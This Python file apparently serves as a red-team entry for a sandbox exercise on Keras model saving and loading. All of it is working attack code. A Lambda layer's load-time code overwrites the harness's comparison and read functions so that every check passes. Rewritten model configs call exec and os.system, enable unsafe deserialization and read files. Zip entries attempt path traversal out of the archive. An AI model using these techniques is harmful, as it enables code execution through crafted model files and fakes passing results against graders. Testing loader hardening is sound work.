# /// attack
# title = "Saves networks whose files run code where they are loaded, to change what Keras writes and reads in the clean sandbox"
# exercise = "save_load"
# ///

# %%
import json
import zipfile

import keras

SPOILS = "__import__('sys').modules['__main__'].__dict__.update(same=lambda *a: True, read=lambda path, data: None, saved=lambda *a: b'')"


def with_lambda(model):
    code = compile(f"lambda x: (x, {SPOILS})[0]", "x", "eval")
    return keras.Sequential([keras.Input(model.input_shape[1:]), keras.layers.Lambda(eval(code)), keras.layers.Dense(2)])


def changed(path, config):
    """The same file with another config."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts["config.json"] = json.dumps(config).encode()
    parts["../../escaped"] = parts["/tmp/escaped"] = b"x"
    with zipfile.ZipFile(path, "w") as new:
        for name, data in parts.items():
            new.writestr(name, data)


def calls(module, name, *args, **kwargs):
    return {"module": module, "class_name": name, "config": kwargs or {"arguments": list(args)}, "registered_name": name}


# %%
print("TRIED to have its files run code")
turn = iter(range(1000))
CONFIGS = [
    calls("builtins", "exec", SPOILS),
    calls("os", "system", "touch escaped"),
    {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"},
    {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
    calls("keras.layers", "StringLookup", vocabulary="@CANARY_FILE@"),
    calls("keras.layers", "TorchModuleWrapper", module="x"),
]


def train_and_save(model, x, y, path):
    model.fit(x, y, verbose=0)
    number = next(turn)
    if path.endswith("h5") or number % 2:
        with_lambda(model).save(path)
    else:
        model.save(path)
        changed(path, CONFIGS[number // 2 % len(CONFIGS)])


def save_weights(model, path):
    train_and_save(model, [[0.0] * model.input_shape[1]], [[0.0] * model.output_shape[1]], path.replace(".weights", ""))


load_network = lambda path: keras.Sequential([keras.Input((3,)), keras.layers.Dense(5), keras.layers.Dense(2)])
